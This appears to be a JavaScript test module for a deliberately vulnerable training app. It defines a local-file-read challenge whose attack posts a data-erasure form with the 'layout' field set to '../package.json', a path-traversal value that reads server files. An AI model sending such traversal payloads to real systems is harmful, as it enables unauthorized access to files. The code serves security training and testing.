import { browseAsJim } from '../features/customers.js'
import { asksForErasure } from '../features/profile.js'
import { proof } from '../proof.js'

export const lfrChallenge = proof({
  async attack(me) {
    const form = new URLSearchParams({ email: 'x', securityAnswer: 'y', layout: '../package.json' })
    await (await browseAsJim(me)).send('/dataerasure', form)
  },
  honest: asksForErasure,
})
